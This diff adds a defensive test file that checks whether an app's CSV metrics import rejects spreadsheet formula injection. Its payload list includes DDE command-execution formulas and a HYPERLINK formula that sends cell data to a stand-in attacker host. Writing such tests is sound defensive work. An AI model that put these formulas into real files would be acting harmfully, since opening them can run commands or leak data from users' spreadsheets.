@@ -1,0 +1,119 @@
+/*
+ * Spreadsheet formula injection through the metrics import (POST /api/reps/:email/metrics/import).
+ * A cell that a spreadsheet would run (=, +, -, @, or one of them behind a tab or carriage return, DDE
+ * payloads) never gets in: the import reads dates and plain non-negative numbers only and refuses the
+ * whole file otherwise, so the figures come out again, in the plan and in a person's data export, as
+ * numbers and dates with nothing a spreadsheet could evaluate. FieldCoach has no CSV export; these are
+ * the ways figures leave it.
+ */
+
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { type HostileWorld, startHostileWorld } from "./support/hostile-world.ts";
+
+const FORMULAS = [
+  "=cmd|' /C calc'!A0",
+  "=1+1",
+  "+1+1",
+  "-1+1",
+  "-5",
+  "+5",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  " =1+1",
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+  "=1+1;12",
+  "12=1+1",
+  "0x0C",
+  "1e3",
+] as const;
+
+/** Quotes a field as RFC 4180 says, so that commas, quotes and line breaks stay inside it. */
+const field = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
+
+/** Where in the file a formula can stand. */
+const PLACES: readonly (readonly [string, (formula: string) => string])[] = [
+  ["a metric column's name", (formula) => `date,pipeline,${field(formula)}\n2026-03-01,1,2\n`],
+  ["the date", (formula) => `date,pipeline\n${field(formula)},1\n`],
+  ["a count", (formula) => `date,pipeline,proposals\n2026-03-01,3,${field(formula)}\n`],
+  ["a money value", (formula) => `date,closed-value\n2026-03-01,${field(formula)}\n`],
+  [
+    "a quoted cell of the second row",
+    (formula) => `date,pipeline\n2026-03-01,4\n2026-03-02,"${formula.replaceAll('"', '""')}"\n`,
+  ],
+];
+
+/** Text a spreadsheet would evaluate when it opens a cell holding it. */
+const EVALUATED = /^[=+\-@\t\r]/;
+
+let hostile: HostileWorld;
+
+beforeAll(async () => {
+  hostile = await startHostileWorld();
+}, 120_000);
+
+afterAll(async () => {
+  await hostile?.close();
+});
+
+const importAs = (csv: string) =>
+  hostile.as(hostile.org, hostile.org.mia, "POST", `/api/reps/${hostile.org.ana.mail}/metrics/import`, {
+    body: csv,
+    contentType: "text/csv",
+  });
+
+/** Every string anywhere in a JSON value. */
+function stringsIn(value: unknown): string[] {
+  if (typeof value === "string") return [value];
+  if (Array.isArray(value)) return value.flatMap(stringsIn);
+  if (typeof value === "object" && value !== null) return Object.values(value).flatMap(stringsIn);
+  return [];
+}
+
+describe("formula injection through the metrics import", () => {
+  it.each(
+    PLACES.flatMap(([place, build]) => FORMULAS.map((formula) => [place, formula, build(formula)] as const)),
+  )("refuses the whole file with a formula in %s: %j", async (_place, _formula, csv) => {
+    const before = await hostile.fingerprint();
+    const response = await importAs(csv);
+    expect(response.statusCode).toBe(422);
+    expect(response.headers["content-type"]).toMatch(/^application\/json/);
+    expect(response.json()).toMatchObject({ code: "csv_invalid", problems: [expect.any(Object)] });
+    expect(await hostile.fingerprint()).toEqual(before);
+  });
+
+  it("reads padded numbers as numbers, and they leave FieldCoach as numbers and dates only", async () => {
+    const { org, world } = hostile;
+    const imported = await importAs('date,pipeline,closed-value\n2026-03-03,"\t15"," 41000.5\r"\n');
+    expect(imported.statusCode).toBe(200);
+    expect(imported.json()).toMatchObject({ values: 2, changed: 2 });
+
+    const plan = (await hostile.as(org, org.mia, "GET", `/api/reps/${org.ana.mail}/plan`)).json();
+    expect(plan.metrics).toEqual(
+      expect.arrayContaining([
+        { metric: "pipeline", asOf: "2026-03-03", value: 15 },
+        { metric: "closed-value", asOf: "2026-03-03", value: 41000.5 },
+      ]),
+    );
+    const changes = plan.timeline.filter((entry: { kind: string }) => entry.kind === "metric");
+    expect(changes.length).toBeGreaterThan(0);
+    for (const entry of changes) {
+      expect(typeof entry.change.value).toBe("number");
+      expect(stringsIn(entry).filter((text) => EVALUATED.test(text))).toEqual([]);
+    }
+
+    const exported = await world.call(org.ida, "GET", `/api/admin/people/${org.ana.mail}/export`, {
+      admin: true,
+      tenantId: org.tenant.tenantId,
+    });
+    expect(exported.headers["content-type"]).toMatch(/^application\/json/);
+    const { tables } = exported.json();
+    const metricRows = [...tables.rep_metrics, ...tables.rep_metric_history];
+    expect(metricRows.length).toBeGreaterThan(0);
+    for (const row of metricRows) {
+      expect(typeof row.value).toBe("number");
+      expect(stringsIn(row).filter((text) => EVALUATED.test(text))).toEqual([]);
+    }
+  });
+});
